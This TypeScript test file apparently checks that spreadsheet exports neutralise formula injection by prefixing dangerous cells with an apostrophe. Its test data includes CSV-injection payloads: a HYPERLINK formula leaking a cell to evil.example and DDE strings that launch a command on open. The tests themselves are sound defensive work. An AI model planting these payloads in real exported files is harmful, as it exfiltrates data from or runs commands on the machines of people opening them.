// Formula neutralising in downloads (src/lib/format/cells.ts), read back with exceljs the way a
// spreadsheet would open the files: CSV and xlsx of the auditor's exports and of chart tables.
import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { inertText } from '../../src/lib/format/cells.ts';
import { toCsv as auditCsv, toXlsx as auditXlsx } from '../../src/lib/auditor/export.ts';
import { toCsv as tableCsv, cellValue } from '../../src/lib/charts/table.ts';
import type { QueryResult } from '../../src/lib/auditor/sandbox.ts';

// the two org names, and the other starts spreadsheets run
const LEAK = '=HYPERLINK("http://evil.example/?leak="&A3,"点击查看")';
const CALC = "+cmd|' /C calc'!A0";
const ATTACKS = [LEAK, CALC, '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

describe('inertText', () => {
  it.each(ATTACKS)('prefixes %j with an apostrophe', (s) => expect(inertText(s)).toBe(`'${s}`));
  // plain numbers are data: a negative change or a signed count stays a number
  it.each(['-12', '-3.5%', '+1,200', '1,211', '东城街道', '', "'=already"])('leaves %j alone', (s) => expect(inertText(s)).toBe(s));
});

async function readCsv(text: string): Promise<string[][]> {
  const wb = new ExcelJS.Workbook();
  const ws = await wb.csv.read(Readable.from([text.replace(/^\uFEFF/, '')]), { parserOptions: { delimiter: ',' } } as never);
  const out: string[][] = [];
  ws.eachRow((row) => out.push((row.values as unknown[]).slice(1).map((v) => (typeof v === 'object' && v !== null ? JSON.stringify(v) : String(v ?? '')))));
  return out;
}

async function readXlsx(bytes: Buffer): Promise<{ values: unknown[][]; formulas: number }> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as never);
  const values: unknown[][] = [];
  let formulas = 0;
  wb.worksheets[0]!.eachRow((row) => {
    row.eachCell((c) => (formulas += c.type === ExcelJS.ValueType.Formula ? 1 : 0));
    values.push((row.values as unknown[]).slice(1));
  });
  return { values, formulas };
}

const result: QueryResult = {
  columns: [{ name: 'org_name', type: 'VARCHAR' }, { name: '=1+1', type: 'INTEGER' }],
  rows: [...ATTACKS.map((a, i) => [a, -i]), ['东城街道', 5]],
  truncated: false,
  maxRows: 100,
  elapsedMs: 1,
  masked: true,
};

describe('the auditor’s exports', () => {
  it('CSV: every formula-looking text starts with an apostrophe; numbers stay numbers', async () => {
    const rows = await readCsv(auditCsv(result));
    expect(rows[0]).toEqual(['org_name', "'=1+1"]); // a column alias is text too
    expect(rows.slice(1, -1).map((r) => r[0])).toEqual(ATTACKS.map((a) => `'${a}`));
    expect(rows.at(-1)).toEqual(['东城街道', '5']);
  });

  it('xlsx: no formula cells, the text kept with its apostrophe', async () => {
    const { values, formulas } = await readXlsx(await auditXlsx(result));
    expect(formulas).toBe(0);
    expect(values[0]).toEqual(['org_name', "'=1+1"]);
    // (xlsx is XML: a stored CR reads back as LF)
    expect(values.slice(1, -1).map((r) => r[0])).toEqual(ATTACKS.map((a) => `'${a}`.replace('\r', '\n')));
    expect(values.slice(1).map((r) => r[1])).toEqual([0, -1, -2, -3, -4, -5, 5]);
  });
});

describe('chart tables (child-table CSV, the xlsx route’s cells)', () => {
  it('CSV made by the island', async () => {
    const rows = await readCsv(tableCsv({ columns: ['组织', '会员数', '同比'], rows: [[LEAK, '1,211', '-3.5%'], [CALC, '12', '+2.0%']] }));
    expect(rows.slice(1)).toEqual([[`'${LEAK}`, '1,211', '-3.5%'], [`'${CALC}`, '12', '+2.0%']]);
  });

  it('xlsx cells: text made inert, numbers parsed', () => {
    expect(cellValue(LEAK)).toEqual({ value: `'${LEAK}` });
    expect(cellValue('-3.5%')).toEqual({ value: -0.035, numFmt: '0.0%' });
  });
});
